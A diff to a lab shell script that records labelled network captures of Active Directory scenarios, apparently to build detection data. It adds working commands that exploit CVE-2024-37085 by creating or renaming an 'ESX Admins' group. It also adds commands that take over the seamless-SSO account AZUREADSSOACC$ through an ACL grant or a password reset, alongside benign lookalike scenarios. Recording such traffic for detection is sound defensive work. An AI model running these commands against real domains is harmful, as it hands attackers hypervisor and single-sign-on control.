@@ -1018,3 +1018,92 @@ sc_dcsync_rights_granted() {
   cap_end
   sync_directory dcsync_rights_granted
 }
+
+SCEN_LIST="$SCEN_LIST esx_admins_group esx_admins_renamed benign_esx_lookalike_group"
+
+# CVE-2024-37085: unpatched domain-joined ESXi hosts make members of a domain group named
+# "ESX Admins" administrators, by name.
+sc_esx_admins_group() {
+  local remote=(-H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off)
+  cap_begin esx_admins_group attack T1136.002 "$ATK_IP" "ESX Admins (a group created, bob added)" \
+    "CVE-2024-37085: with da_admin's stolen password the attacker creates the domain group ESX Admins and adds bob to it (samba-tool group add, addmembers over sealed LDAP); unpatched domain-joined ESXi hosts make its members administrators."
+  on atk -- samba-tool group add "ESX Admins" "${remote[@]}"
+  on atk -- samba-tool group addmembers "ESX Admins" bob "${remote[@]}"
+  expect "tcp.dstport==389 && ip.src==$ATK_IP"
+  cap_end
+  st group delete "ESX Admins" >/dev/null 2>&1 || true
+}
+
+sc_esx_admins_renamed() {
+  # A group bob was given to manage earlier (created before the recording).
+  st group add "VM Operators" >/dev/null
+  cap_begin esx_admins_renamed attack T1098 "$WS_IP" "VM Operators (renamed ESX Admins)" \
+    "CVE-2024-37085 by rename: da_admin's stolen password used at the workstation renames the existing group VM Operators to ESX Admins (ldapmodify of sAMAccountName over a simple bind)."
+  printf 'dn: CN=VM Operators,CN=Users,%s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: ESX Admins\n' "$BASEDN" > "$WORK/tmp/esx-rename.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-rename.ldif"
+  expect 'ldap.protocolOp==6'
+  cap_end
+  st group delete "ESX Admins" >/dev/null 2>&1 || st group delete "VM Operators" >/dev/null 2>&1 || true
+}
+
+sc_benign_esx_lookalike_group() {
+  cap_begin benign_esx_lookalike_group benign none "$WS_IP" "ESX Operators, ESX Admins Audit" \
+    "The virtualisation team's groups under other names: da_admin at the workstation creates ESX Operators (ldapadd over a simple bind) and renames it ESX Admins Audit (ldapmodify of sAMAccountName) — names close to ESX Admins that no ESXi host trusts."
+  printf 'dn: CN=ESX Operators,CN=Users,%s\nchangetype: add\nobjectClass: group\nsAMAccountName: ESX Operators\n' "$BASEDN" > "$WORK/tmp/esx-ops.ldif"
+  printf 'dn: CN=ESX Operators,CN=Users,%s\nchangetype: modify\nreplace: sAMAccountName\nsAMAccountName: ESX Admins Audit\n' "$BASEDN" > "$WORK/tmp/esx-ops-rename.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-ops.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/esx-ops-rename.ldif"
+  expect 'ldap.protocolOp==8'
+  expect 'ldap.protocolOp==6'
+  cap_end
+  st group delete "ESX Admins Audit" >/dev/null 2>&1 || st group delete "ESX Operators" >/dev/null 2>&1 || true
+}
+
+SCEN_LIST="$SCEN_LIST azureadssoacc_full_control azureadssoacc_password_reset benign_azureadssoacc_rollover"
+
+# Entra seamless SSO's computer account, as Entra Connect's setup creates it (before the
+# recordings); each scenario that changes it removes it again.
+seamless_sso_setup() {
+  st computer create AZUREADSSOACC >/dev/null 2>&1 || true
+}
+
+sc_azureadssoacc_full_control() {
+  local bob
+  seamless_sso_setup
+  bob=$(sid_of user bob)
+  cap_begin azureadssoacc_full_control attack T1098 "$ATK_IP" "AZUREADSSOACC\$ (full control for bob)" \
+    "Seamless SSO takeover: with da_admin's stolen password the attacker gives bob, whom it controls, full control of AZUREADSSOACC\$ (samba-tool dsacl set over sealed LDAP), so bob can reset its key or delegate to it at will. (Samba 4.17 lets only the system write msDS-AllowedToActOnBehalfOfOtherIdentity and has no msDS-KeyCredentialLink, the other ways in.)"
+  dsacl_remote atk "CN=AZUREADSSOACC,CN=Computers,$BASEDN" "(A;;GA;;;$bob)"
+  expect "tcp.dstport==389 && ip.src==$ATK_IP"
+  cap_end
+  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
+}
+
+sc_azureadssoacc_password_reset() {
+  local bob
+  seamless_sso_setup
+  bob=$(sid_of user bob)
+  # Reset-password on the account delegated to bob, a helpdesk user, before the recording.
+  st dsacl set --objectdn="CN=AZUREADSSOACC,CN=Computers,$BASEDN" \
+    --sddl="(OA;;CR;00299570-246d-11d0-a768-00a0c90f574b;;$bob)" >/dev/null
+  cap_begin azureadssoacc_password_reset attack T1098 "$WS_IP" "AZUREADSSOACC\$ (password reset by bob)" \
+    "Seamless SSO takeover by a password reset: bob, who was delegated reset-password on AZUREADSSOACC\$, sets its password from the workstation (samba-tool user setpassword over sealed LDAP) and so knows the key Entra ID decrypts seamless-SSO tickets with. With the directory synced after it: bob is no administrator."
+  on ws -- samba-tool user setpassword 'AZUREADSSOACC$' --newpassword='Seamless-Key-2026!' \
+    -H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\bob%$BOB_PASS" --use-kerberos=off
+  expect "tcp.dstport==389 && ip.src==$WS_IP"
+  cap_end
+  sync_directory azureadssoacc_password_reset
+  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
+}
+
+sc_benign_azureadssoacc_rollover() {
+  seamless_sso_setup
+  cap_begin benign_azureadssoacc_rollover benign none "$WS_IP" "AZUREADSSOACC\$ (key rolled over by da_admin)" \
+    "The documented key rollover of seamless SSO (Update-AzureADSSOForest, every 30 days): da_admin, a Domain Admin, resets AZUREADSSOACC\$'s password from the workstation (samba-tool user setpassword over sealed LDAP). With the directory synced after it."
+  on ws -- samba-tool user setpassword 'AZUREADSSOACC$' --newpassword='Rolled-Over-Key-2026!' \
+    -H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off
+  expect "tcp.dstport==389 && ip.src==$WS_IP"
+  cap_end
+  sync_directory benign_azureadssoacc_rollover
+  st computer delete AZUREADSSOACC >/dev/null 2>&1 || true
+}
